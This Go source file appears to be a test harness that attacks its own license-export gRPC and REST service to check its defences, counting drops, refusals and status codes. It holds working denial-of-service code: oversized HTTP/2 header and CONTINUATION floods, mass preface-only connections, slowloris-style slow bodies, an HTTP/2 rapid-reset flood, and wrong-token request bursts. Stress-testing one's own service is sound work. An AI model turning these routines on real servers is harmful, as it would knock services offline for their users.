package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Conn opens an HTTP/2 connection from ip and drains what the server
// sends; closed is closed when the server closes it.
func h2Conn(ctx context.Context, ip, addr string) (net.Conn, *http2.Framer, <-chan struct{}, error) {
	c, err := dialFrom(ctx, ip, addr)
	if err != nil {
		return nil, nil, nil, err
	}
	bw := bufio.NewWriterSize(c, 64<<10)
	fr := http2.NewFramer(bw, c)
	_, _ = bw.WriteString(http2.ClientPreface)
	_ = fr.WriteSettings()
	_ = bw.Flush()
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		_, _ = io.Copy(io.Discard, c)
	}()
	return &flushConn{Conn: c, bw: bw}, fr, closed, nil
}

// flushConn flushes the framer's buffer on demand.
type flushConn struct {
	net.Conn
	bw *bufio.Writer
}

func (f *flushConn) flush() error { return f.bw.Flush() }

func headerBlock(addr, path string, extra ...string) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	fields := []string{":method", "POST", ":scheme", "http", ":path", path, ":authority", addr,
		"content-type", "application/grpc", "te", "trailers"}
	fields = append(fields, extra...)
	for i := 0; i < len(fields); i += 2 {
		_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return b.Bytes()
}

// headerAttack: 24 workers, each sending calls with a 15 MiB header.
func (s *server) headerAttack(ctx context.Context) string {
	block := headerBlock(s.grpcAddr, "/cwpexport.v1.LicenseExportService/ExportLicenseDetail", "authorization", "Bearer "+strings.Repeat("x", 15<<20))
	var sent, answered atomic.Int64
	var wg sync.WaitGroup
	for range 24 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				c, fr, closed, err := h2Conn(ctx, attackerIP, s.grpcAddr)
				if err != nil {
					continue
				}
				sent.Add(1)
				const chunk = 16 << 10
				_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:chunk]})
				for rest := block[chunk:]; len(rest) > 0; {
					n := min(chunk, len(rest))
					if fr.WriteContinuation(1, n == len(rest), rest[:n]) != nil {
						break
					}
					rest = rest[n:]
				}
				if c.(*flushConn).flush() == nil {
					answered.Add(1)
				}
				select {
				case <-closed:
				case <-time.After(5 * time.Second):
				case <-ctx.Done():
				}
				c.Close()
			}
		}()
	}
	wg.Wait()
	return fmt.Sprintf("%d calls of 15 MiB attempted, %d written whole (the others cut off by the server)", sent.Load(), answered.Load())
}

// connAttack: 21,000 connections sending only the HTTP/2 preface, held
// until the phase ends.
func (s *server) connAttack(ctx context.Context) string {
	const total, addrs = 21000, 21
	var held, refused, failed atomic.Int64
	var mu sync.Mutex
	var conns []net.Conn
	sem := make(chan struct{}, 256)
	var wg sync.WaitGroup
	for i := range total {
		if ctx.Err() != nil {
			break
		}
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			c, _, closed, err := h2Conn(ctx, fmt.Sprintf("127.0.1.%d", 1+i%addrs), s.grpcAddr)
			if err != nil {
				failed.Add(1)
				return
			}
			select {
			case <-closed:
				refused.Add(1)
				c.Close()
				return
			case <-time.After(50 * time.Millisecond):
			}
			held.Add(1)
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
		}()
	}
	wg.Wait()
	out := fmt.Sprintf("%d held, %d closed by the server at once, %d failed to connect", held.Load(), refused.Load(), failed.Load())
	<-ctx.Done()
	for _, c := range conns {
		c.Close()
	}
	return out
}

// slowBodies: 20 REST requests without a token, a body to come one byte a
// second; how long until each is answered.
func (s *server) slowBodies(ctx context.Context) string {
	type result struct {
		code int
		took time.Duration
	}
	results := make(chan result, 20)
	for range 20 {
		go func() {
			start := time.Now()
			c, err := dialFrom(ctx, attackerIP, s.rest)
			if err != nil {
				results <- result{0, 0}
				return
			}
			defer c.Close()
			fmt.Fprintf(c, "POST /v1/license-detail:export HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", s.rest)
			go func() {
				for ctx.Err() == nil {
					time.Sleep(time.Second)
					if _, err := c.Write([]byte(" ")); err != nil {
						return
					}
				}
			}()
			_ = c.SetReadDeadline(time.Now().Add(70 * time.Second))
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				results <- result{0, time.Since(start)}
				return
			}
			resp.Body.Close()
			results <- result{resp.StatusCode, time.Since(start)}
		}()
	}
	codes := map[int]int{}
	var worst time.Duration
	for range 20 {
		r := <-results
		codes[r.code]++
		worst = max(worst, r.took)
	}
	return fmt.Sprintf("answers %v, the slowest after %s", codes, worst.Round(time.Millisecond))
}

// resetFlood returns an attack sending HEADERS then RST_STREAM at once on
// conns connections, perConn streams each, reconnecting when dropped.
func (s *server) resetFlood(token string, conns, perConn int) func(ctx context.Context) string {
	return func(ctx context.Context) string {
		block := headerBlock(s.grpcAddr, watchPath, "authorization", "Bearer "+token)
		var sent, drops, refusedConns atomic.Int64
		// A connection refused (a dropped peer's, for -edge-drop-ban) is
		// closed by the server at once: nothing is written to it.
		refusedAtOnce := func(closed <-chan struct{}) bool {
			select {
			case <-closed:
				return true
			case <-time.After(20 * time.Millisecond):
				return false
			}
		}
		var wg sync.WaitGroup
		for range conns {
			wg.Add(1)
			go func() {
				defer wg.Done()
				n := 0
				for n < perConn && ctx.Err() == nil {
					c, fr, closed, err := h2Conn(ctx, attackerIP, s.grpcAddr)
					if err != nil || refusedAtOnce(closed) {
						if c != nil {
							c.Close()
						}
						refusedConns.Add(1)
						time.Sleep(50 * time.Millisecond)
						continue
					}
					ok := true
					for id := uint32(1); n < perConn && ok && ctx.Err() == nil; id += 2 {
						_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
						_ = fr.WriteRSTStream(id, http2.ErrCodeCancel)
						n++
						if n%100 == 0 {
							ok = c.(*flushConn).flush() == nil
							select {
							case <-closed:
								ok = false
							default:
							}
							if ok {
								sent.Add(100)
							}
						}
					}
					_ = c.(*flushConn).flush()
					if ok {
						// Written: the server may still be digesting it. A
						// drop shows as the server closing the connection.
						select {
						case <-closed:
							ok = false
						case <-ctx.Done():
						}
					}
					if !ok {
						drops.Add(1)
						time.Sleep(10 * time.Millisecond)
					}
					c.Close()
				}
			}()
		}
		wg.Wait()
		return fmt.Sprintf("%d HEADERS+RST written; %d connections dropped by the server, %d reconnections refused", sent.Load(), drops.Load(), refusedConns.Load())
	}
}

// wrongTokens: 8,000 REST calls with a wrong token, 8 at a time.
func (s *server) wrongTokens(ctx context.Context) string {
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{MaxIdleConnsPerHost: 8,
		DialContext: func(ctx context.Context, _, a string) (net.Conn, error) { return dialFrom(ctx, attackerIP, a) }}}
	var mu sync.Mutex
	codes := map[int]int{}
	var next atomic.Int64
	var wg sync.WaitGroup
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for next.Add(1) <= 8000 && ctx.Err() == nil {
				req, _ := http.NewRequest(http.MethodPost, "http://"+s.rest+"/v1/license-detail:export", strings.NewReader("{}"))
				req.Header.Set("Content-Type", "application/json")
				req.Header.Set("Authorization", "Bearer "+wrongToken)
				code := 0
				if resp, err := client.Do(req); err == nil {
					_, _ = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					code = resp.StatusCode
				}
				mu.Lock()
				codes[code]++
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return fmt.Sprintf("answers %v", codes)
}
